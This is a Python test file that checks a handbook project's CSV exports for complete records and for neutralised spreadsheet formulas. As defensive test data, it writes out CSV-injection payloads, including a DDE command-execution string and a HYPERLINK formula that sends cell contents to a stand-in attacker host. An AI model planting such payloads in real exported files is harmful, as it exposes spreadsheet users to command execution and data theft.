"""Tables for spreadsheets: every record and every field is there, and nothing is taken for a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from strategy_handbook.exports.cells import defused
from strategy_handbook.insight.tables import rows_of, tables
from strategy_handbook.plan import Plan
from strategy_handbook.plan.records import fields_of
from tests.docs.sample import sample_handbook
from tests.exports.plans import SITE, files_of, plan_of


def read(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def table(plan: Plan, name: str, **more: str | None) -> list[dict[str, str]]:
    return read(files_of(plan, "tables", **more)[f"{plan.id}/data/{name}.csv"])  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\u3000=1", "＝1+1",
        "＋1", "－1", "＠A1", "-2 pts", "+30% more", "--5", "\n=1",
    ],
)  # fmt: skip
def test_what_could_be_a_formula_is_a_text(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Tea", "5", "-5", "+30%", "-2.5", "1=1", "a-b", "800", "é=", "'=1"]
)
def test_what_is_none_stays(text: str) -> None:
    assert defused(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_no_text_begins_as_a_formula(text: str) -> None:
    shown = defused(text)
    assert shown in (text, f"'{text}")
    begins = shown.lstrip()[:1]
    assert begins not in tuple("=@＝＠") or not begins
    assert (
        begins not in tuple("+-＋－")
        or shown.lstrip("+-").rstrip("%").replace(".", "", 1).isdecimal()
    )


def test_a_hostile_plan_cannot_reach_a_spreadsheet() -> None:
    plan = plan_of(
        """
        campaigns:
          tea:
            name: "=HYPERLINK(\\"https://evil.example/?x=\\"&A1,\\"Tea\\")"
            summary: "@SUM(1+1)*cmd|' /C calc'!A0"
            start: 2027-03-01
            end: 2027-03-02
            tags: ["=1", two]
            custom: {"=1": "=2"}
        """
    )
    for name in ("campaigns", "calendar"):
        [row] = table(plan, name)
        assert not [value for value in row.values() if value[:1] in tuple("=+-@")]
    assert row["title"].startswith("'=HYPERLINK")


def test_every_record_is_in_its_table_with_every_field() -> None:
    for plan in sample_handbook().plans.values():
        files = files_of(plan, "tables")
        for section in tables(plan):
            rows = read(files[f"{plan.id}/data/{section.key}.csv"])
            records = rows_of(plan, section)
            assert len(rows) == len(records)
            for spec in fields_of(section.cls):
                for row, record in zip(rows, records, strict=True):
                    assert bool(row[spec.key]) == (
                        getattr(record, spec.attribute) not in (None, ())
                    )


def test_values_stand_as_they_were_written() -> None:
    plan = plan_of(
        """
        plan: {name: Spring, currency: EUR, namespace: tea.example}
        personas: {reader: {name: "Zoë, \\"the\\" reader", pains: [{pain: Cold, severity: high}, Dark]}}
        campaigns: {tea: {name: Tea, start: 2027-Q1, end: 2027-06, personas: [reader],
                         funnel: [{step: See, count: 1000, rate: 2.50%}]}}
        budget: [{for: tea, category: media, planned: [EUR 5000..8000, CHF 20]}]
        metrics: {cups: {name: Cups}}
        observations: [{metric: cups, period: 2027-01, value: -5}]
        """
    )
    [reader] = table(plan, "personas")
    assert reader["name"] == 'Zoë, "the" reader'
    assert reader["pains"] == "Cold, severity: high; Dark"
    assert reader["address"] == f"{SITE}spring/personas/reader/"
    [tea] = table(plan, "campaigns", site=None)
    assert (tea["id"], tea["start"], tea["end"], tea["personas"]) == (
        "tea",
        "2027-Q1",
        "2027-06",
        "reader",
    )
    assert (tea["funnel"], tea["address"]) == ("See, count: 1000, rate: 2.50", "")
    [line] = table(plan, "budget")
    assert (line["for"], line["planned"]) == ("tea", "EUR 5000..8000; CHF 20")
    [observed] = table(plan, "observations")
    assert observed["value"] == "-5"


def test_the_calendar_has_a_row_for_each_day() -> None:
    plan = plan_of(
        """
        content:
          diary: {title: Diary, every: week, from: 2027-03-01, until: 2027-03-15, channel: [blog, email]}
          letter: {title: Letter, publish: 2027-03-08 14:00, status: approved}
          later: {title: Later, publish: 2027-04}
        """
    )
    rows = table(plan, "calendar")
    assert [(row["start"], row["end"], row["exact"], row["title"]) for row in rows] == [
        ("2027-03-01", "2027-03-01", "yes", "Diary"),
        ("2027-03-08", "2027-03-08", "yes", "Diary"),
        ("2027-03-08", "2027-03-08", "yes", "Letter"),
        ("2027-03-15", "2027-03-15", "yes", "Diary"),
        ("2027-04-01", "2027-04-30", "no", "Later"),
    ]
    assert (rows[0]["returns"], rows[0]["channel"]) == ("week", "blog; email")


def test_lines_end_as_spreadsheets_want() -> None:
    for text in files_of(plan_of("personas: {reader: {name: Reader}}"), "tables").values():
        assert text.replace("\r\n", "").count("\n") == 0
        assert text.endswith("\r\n")
